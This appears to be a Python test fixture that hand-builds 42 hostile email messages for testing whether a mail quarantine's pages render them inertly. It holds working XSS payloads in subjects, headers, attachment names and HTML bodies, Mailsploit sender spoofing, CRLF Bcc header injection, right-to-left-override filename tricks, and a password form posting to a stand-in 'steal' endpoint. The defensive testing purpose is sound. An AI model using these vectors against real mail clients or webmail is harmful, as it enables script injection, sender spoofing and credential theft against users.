"""A corpus of hostile messages for the quarantine's pages, as the raw bytes a filter receives.

Every payload that could run tries to set `window.__pwned` and to open a dialog, and every
resource it names lives on remote.example, so that a page that let it through is caught
three ways: the marker global, the dialog, the request. Each vector also carries plain words
(its `marker`, with a unique `token` that the search box finds) that must stay readable, and
pieces of the payload that the detail page must show as literal text.

Messages are written by hand, not through `email.message`, because the point is to send what
a careful library would refuse to produce: CR/LF in encoded words, NUL in display names,
invalid UTF-8, a UTF-7 body.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from urllib.parse import quote

JS = "window.__pwned=1;alert(1)"
RECIPIENT = "alice@example.test"


@dataclass(frozen=True)
class Vector:
    name: str
    token: str
    raw: bytes
    marker: str
    # Text the detail page shows literally (the payload as typed, made visible).
    in_detail: tuple[str, ...] = ()
    # Text the list page shows literally, besides the marker.
    in_list: tuple[str, ...] = ()
    category: str = "SPAM"
    recipients: tuple[str, ...] = field(default=(RECIPIENT,))

    def __str__(self) -> str:
        return self.name


def b_word(text: str, charset: str = "UTF-8") -> str:
    """An RFC 2047 B encoded word."""
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="


def q_word(text: str | bytes, charset: str = "UTF-8") -> str:
    """An RFC 2047 Q encoded word: letters and digits as is, space as `_`, the rest =XX."""
    data = text if isinstance(text, bytes) else text.encode(charset)
    out = []
    for byte in data:
        char = chr(byte)
        if char.isascii() and char.isalnum():
            out.append(char)
        elif char == " ":
            out.append("_")
        else:
            out.append(f"={byte:02X}")
    return f"=?{charset}?Q?{''.join(out)}?="


def rfc2231(text: str) -> str:
    """An RFC 2231 extended parameter value: UTF-8, no language, percent-encoded."""
    return "UTF-8''" + quote(text, safe="")


def _message(
    *,
    token: str,
    subject: str | bytes,
    from_: str | bytes = "Sender <sender@remote.example>",
    to: str = f"Alice <{RECIPIENT}>",
    extra: tuple[str | bytes, ...] = (),
    content_type: str = "text/plain; charset=utf-8",
    transfer_encoding: str = "8bit",
    body: str | bytes = "Hello, this is an ordinary message.\n",
) -> bytes:
    """A message from header lines and a body, CRLF line ends, no re-encoding of anything."""

    def line(value: str | bytes) -> bytes:
        return value if isinstance(value, bytes) else value.encode("utf-8")

    head = [
        b"Received: from mx.remote.example by gateway.example.test; "
        b"Fri, 20 Nov 2026 10:00:00 +0000",
        b"From: " + line(from_),
        b"To: " + line(to),
        b"Subject: " + line(subject),
        b"Date: Fri, 20 Nov 2026 10:00:00 +0000",
        line(f"Message-ID: <{token}.corpus@remote.example>"),
        b"MIME-Version: 1.0",
        *(line(x) for x in extra),
        line(f"Content-Type: {content_type}"),
        line(f"Content-Transfer-Encoding: {transfer_encoding}"),
    ]
    payload = line(body).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    return b"\r\n".join(head) + b"\r\n\r\n" + payload


def _with_attachment(*, token: str, subject: str, part_headers: tuple[str, ...]) -> bytes:
    """A multipart/mixed message: a short text part, then one attachment part."""
    boundary = f"=_boundary_{token}"
    body = (
        f"--{boundary}\n"
        "Content-Type: text/plain; charset=utf-8\n\n"
        f"The document for {token} is attached.\n"
        f"--{boundary}\n"
        + "\n".join(part_headers)
        + "\nContent-Transfer-Encoding: base64\n\n"
        + base64.b64encode(b"%PDF-1.4\n% not really a document\n").decode()
        + f"\n--{boundary}--\n"
    )
    return _message(
        token=token,
        subject=subject,
        content_type=f'multipart/mixed; boundary="{boundary}"',
        transfer_encoding="7bit",
        body=body,
    )


def _html(*, token: str, html: str, charset: str = "utf-8", encoding: str = "8bit") -> bytes:
    body: str = html
    if encoding == "base64":
        body = base64.encodebytes(html.encode(charset)).decode()
    return _message(
        token=token,
        subject=f"Quarterly figures {token}",
        content_type=f"text/html; charset={charset}",
        transfer_encoding=encoding,
        body=body,
    )


def _subject_vector(name: str, n: int, words: str, payload: str, *, encode=None) -> Vector:
    """The payload in the Subject after plain words, raw or as an encoded word."""
    token = f"hv{n:02d}"
    subject_words = f"{words} {token}"
    encoded = encode(payload) if encode else payload
    return Vector(
        name=name,
        token=token,
        raw=_message(token=token, subject=f"{subject_words} {encoded}"),
        marker=subject_words,
        in_detail=(payload,),
        in_list=(payload,),
    )


def _from_vector(name: str, n: int, from_: str | bytes, *, shown: tuple[str, ...]) -> Vector:
    token = f"hv{n:02d}"
    return Vector(
        name=name,
        token=token,
        raw=_message(token=token, subject=f"Billing notice {token}", from_=from_),
        marker=f"Billing notice {token}",
        in_detail=shown,
        in_list=shown,
    )


def _header_vector(name: str, n: int, words: str, *, extra=(), to=None, shown=()) -> Vector:
    token = f"hv{n:02d}"
    kwargs = {"to": to} if to else {}
    return Vector(
        name=name,
        token=token,
        raw=_message(token=token, subject=f"{words} {token}", extra=extra, **kwargs),
        marker=f"{words} {token}",
        in_detail=shown,
    )


def _attachment_vector(name: str, n: int, part_headers: tuple[str, ...], *, shown=()) -> Vector:
    token = f"hv{n:02d}"
    return Vector(
        name=name,
        token=token,
        raw=_with_attachment(token=token, subject=f"Invoice copy {token}",
                             part_headers=part_headers),
        marker=f"Invoice copy {token}",
        in_detail=shown,
        category="BANNED",
    )


def _html_vector(name: str, n: int, html: str, *, charset="utf-8", encoding="8bit") -> Vector:
    token = f"hv{n:02d}"
    return Vector(
        name=name,
        token=token,
        raw=_html(token=token, html=html.replace("TOKEN", token), charset=charset,
                  encoding=encoding),
        marker=f"Quarterly figures {token}",
    )


SCRIPT = f"<script>{JS}</script>"
IMG_ONERROR = f'"><img src=x onerror={JS}>'
JAVASCRIPT_URL = f'javascript:{JS} <a href="javascript:{JS}">verify</a>'
SVG_ANIMATE = f"<svg><animate onbegin={JS} attributeName=x dur=1s>"
# CVE-2024-37383: a padded attribute name that a sanitiser compares without trimming.
SVG_PADDED = (
    f'<svg><a><animate attributeName="href " values="javascript:{JS}" begin="0s"/>'
    "<text x=20 y=20>open</text></a></svg>"
)
ENTITIES = f"&lt;script&gt;{JS}&lt;/script&gt; &#x3c;img src=x onerror={JS}&#x3e;"
MAILSPLOIT = (
    b_word("potus@whitehouse.gov") + q_word(b"\x00\n") + b_word("potus@whitehouse.gov")
)

VECTORS: list[Vector] = [
    # Subject, as typed ------------------------------------------------------------------
    _subject_vector("subject_script", 1, "Invoice reminder", SCRIPT),
    _subject_vector("subject_attribute_breakout", 2, "Parcel notice", IMG_ONERROR),
    _subject_vector("subject_javascript_url", 3, "Account check", JAVASCRIPT_URL),
    _subject_vector("subject_svg_animate", 4, "Team lunch", SVG_ANIMATE),
    _subject_vector("subject_svg_padded_attribute_name", 5, "Shipping update", SVG_PADDED),
    # Subject, RFC 2047 encoded ----------------------------------------------------------
    _subject_vector("subject_script_b_encoded", 6, "Payment due", SCRIPT, encode=b_word),
    _subject_vector("subject_script_q_encoded", 7, "Payment late", SCRIPT, encode=q_word),
    _subject_vector("subject_attribute_breakout_b_encoded", 8, "Parcel held", IMG_ONERROR,
                    encode=b_word),
    _subject_vector("subject_attribute_breakout_q_encoded", 9, "Parcel lost", IMG_ONERROR,
                    encode=q_word),
    _subject_vector("subject_javascript_url_q_encoded", 10, "Account locked", JAVASCRIPT_URL,
                    encode=q_word),
    _subject_vector("subject_svg_animate_b_encoded", 11, "Team dinner", SVG_ANIMATE,
                    encode=b_word),
    _subject_vector("subject_svg_padded_attribute_name_q_encoded", 12, "Shipping delay",
                    SVG_PADDED, encode=q_word),
    # Entities must stay entities: the page shows `&lt;` as typed, never a `<`.
    _subject_vector("subject_html_entities", 13, "Statement ready", ENTITIES),
    _subject_vector("subject_utf7_encoded_word", 14, "Newsletter issue", SCRIPT,
                    encode=lambda text: q_word(text.encode("utf-7"), "UTF-7")),
    Vector(
        name="subject_encoded_crlf_injection",
        token="hv15",
        raw=_message(token="hv15",
                     subject="Delivery report hv15 =?UTF-8?Q?hello=0D=0ABcc:_victim@example.com?="),
        marker="Delivery report hv15",
        # The line break is shown as the two characters `\r\n`: never a new header line.
        in_detail=("hello\\r\\nBcc: victim@example.com",),
        in_list=("hello\\r\\nBcc: victim@example.com",),
    ),
    Vector(
        name="subject_invalid_utf8_bytes",
        token="hv16",
        raw=_message(token="hv16",
                     subject=b"Tax refund hv16 \xff\xfe" + SCRIPT.encode()),
        marker="Tax refund hv16",
        in_detail=(SCRIPT,),
    ),
    # From, To, Reply-To, Message-ID -----------------------------------------------------
    _from_vector("from_display_name_script", 17,
                 f'"{SCRIPT}" <billing.hv17@remote.example>',
                 shown=(SCRIPT, "billing.hv17@remote.example")),
    _from_vector("from_display_name_attribute_breakout_b_encoded", 18,
                 f"{b_word(IMG_ONERROR)} <billing.hv18@remote.example>",
                 shown=("billing.hv18@remote.example",)),
    # Mailsploit: encoded words in the local part that decode to another address, a NUL
    # and a line break; the real domain must stay on the page.
    _from_vector("from_mailsploit_encoded_local_part", 19, f"{MAILSPLOIT}@attacker.example",
                 shown=("attacker.example",)),
    _from_vector("from_mailsploit_display_name", 20,
                 f"{b_word('potus@whitehouse.gov' + chr(0) + chr(10))} "
                 "<mallory.hv20@attacker.example>",
                 shown=("mallory.hv20@attacker.example",)),
    _header_vector("to_display_name_markup", 21, "Meeting notes",
                   to=f'"<img src=x onerror={JS}>" <{RECIPIENT}>',
                   shown=(f"<img src=x onerror={JS}>",)),
    _header_vector("reply_to_javascript_address", 22, "Support ticket",
                   extra=(f'Reply-To: "{SCRIPT}" <javascript:{JS}//@remote.example>',)),
    _header_vector("message_id_markup", 23, "Order confirmation",
                   extra=(f'X-Original-Message-ID: <"><svg onload={JS}>@remote.example>',
                          f'In-Reply-To: <"><img src=x onerror={JS}>@remote.example>')),
    # Attachment names and part descriptions ---------------------------------------------
    _attachment_vector("attachment_filename_markup", 24, (
        f'Content-Type: application/pdf; name="<img src=x onerror={JS}>.pdf"',
        f'Content-Disposition: attachment; filename="<img src=x onerror={JS}>.pdf"',
    ), shown=(f"<img src=x onerror={JS}>.pdf",)),
    _attachment_vector("attachment_filename_rfc2231", 25, (
        "Content-Type: application/octet-stream",
        "Content-Disposition: attachment; filename*="
        + rfc2231(f"<svg onload={JS}>.html"),
    ), shown=(f"<svg onload={JS}>.html",)),
    _attachment_vector("attachment_filename_rfc2047", 26, (
        "Content-Type: application/msword",
        f'Content-Disposition: attachment; filename="{b_word(SCRIPT + ".doc")}"',
    ), shown=(f"{SCRIPT}.doc",)),
    # Right-to-left override: `invoice<RLO>exe.pdf` reads as `invoicefdp.exe`.
    _attachment_vector("attachment_filename_rtlo", 27, (
        "Content-Type: application/pdf",
        "Content-Disposition: attachment; filename*=" + rfc2231("invoice\u202eexe.pdf"),
    ), shown=("exe.pdf",)),
    # Zimbra CVE-2018-6882: part headers that a viewer may show next to the attachment.
    _attachment_vector("attachment_description_and_location", 28, (
        'Content-Type: application/pdf; name="report.pdf"',
        f"Content-Description: <img src=x onerror={JS}>",
        f"Content-Location: javascript:{JS}",
        'Content-Disposition: attachment; filename="report.pdf"',
    )),
    # HTML-only bodies -------------------------------------------------------------------
    _html_vector("html_script", 29,
                 f"<p>Quarterly figures TOKEN are attached.</p>{SCRIPT}"
                 f"<script src=http://remote.example/x.js></script>"),
    _html_vector("html_svg_onload", 30,
                 f"<body onload={JS}><svg onload={JS}></svg><p>Quarterly figures TOKEN</p>"),
    _html_vector("html_meta_refresh", 31,
                 '<meta http-equiv="refresh" content="0;url=data:text/html;base64,'
                 + base64.b64encode(f"<script>{JS}</script>".encode()).decode() + '">'
                 '<meta http-equiv="refresh" content="1;url=http://remote.example/phish">'
                 "<p>Quarterly figures TOKEN</p>"),
    _html_vector("html_remote_image", 32,
                 "<p>Quarterly figures TOKEN</p><img src=http://remote.example/x.png>"
                 '<img srcset="http://remote.example/2x.png 2x">'
                 "<video poster=http://remote.example/poster.png></video>"
                 '<table background="http://remote.example/bg.png"><tr><td>cell</td></tr>'
                 "</table>"),
    _html_vector("html_css_expression_and_import", 33,
                 "<style>@import url(http://remote.example/x.css);"
                 "body{background:url(http://remote.example/bg.png)}"
                 f"p{{width:expression({JS})}}</style>"
                 '<p style="background:url(http://remote.example/p.png)">'
                 "Quarterly figures TOKEN</p>"),
    _html_vector("html_details_ontoggle", 34,
                 f"<details open ontoggle={JS}><summary>Quarterly figures TOKEN</summary>"
                 "</details>"),
    _html_vector("html_base_href", 35,
                 '<base href="http://remote.example/"><p>Quarterly figures TOKEN</p>'
                 '<a href="login">sign in</a><img src="logo.png">'),
    _html_vector("html_iframe", 36,
                 '<p>Quarterly figures TOKEN</p><iframe src="http://remote.example/frame">'
                 '</iframe><iframe srcdoc="<script>parent.__pwned=1;alert(1)</script>">'
                 "</iframe><object data=http://remote.example/x.swf></object>"
                 "<embed src=http://remote.example/y.swf>"),
    _html_vector("html_cdata_tricks", 37,
                 '<svg><![CDATA[><image xlink:href="]]><img src=x onerror='
                 f'{JS}//"></svg><![CDATA[<]]>script>{JS}<![CDATA[>]]>'
                 "<p>Quarterly figures TOKEN</p>"),
    _html_vector("html_remote_form", 38,
                 '<form action="http://remote.example/steal" method="post">'
                 '<input name="password" type="password"><button>Quarterly figures TOKEN'
                 "</button></form>"),
    _html_vector("html_javascript_links", 39,
                 f'<a href="javascript:{JS}">Quarterly figures TOKEN</a>'
                 f'<a href="jav&#x09;ascript:{JS}">more</a>'
                 '<link rel="stylesheet" href="http://remote.example/x.css">'),
    _html_vector("html_base64_encoded_script", 40,
                 f"<p>Quarterly figures TOKEN</p>{SCRIPT}<img src=x onerror={JS}>",
                 encoding="base64"),
    # Plain text and charset tricks ------------------------------------------------------
    Vector(
        name="text_utf7_body",
        token="hv41",
        raw=_message(token="hv41", subject="Quarterly figures hv41",
                     content_type="text/plain; charset=utf-7", transfer_encoding="7bit",
                     body=f"Quarterly figures hv41\n{SCRIPT}\n".encode("utf-7")),
        marker="Quarterly figures hv41",
    ),
    Vector(
        name="text_body_with_markup_and_links",
        token="hv42",
        raw=_message(token="hv42", subject="Quarterly figures hv42",
                     body=f"Quarterly figures hv42\n{SCRIPT}\n<img src=x onerror={JS}>\n"
                          f"javascript:{JS}\nwww.remote.example/x.png\n"
                          "[link](javascript:alert(1))\n"),
        marker="Quarterly figures hv42",
        in_detail=(SCRIPT, f"<img src=x onerror={JS}>"),
    ),
]

assert len({v.token for v in VECTORS}) == len(VECTORS), "tokens must be unique"
assert len({v.name for v in VECTORS}) == len(VECTORS), "names must be unique"
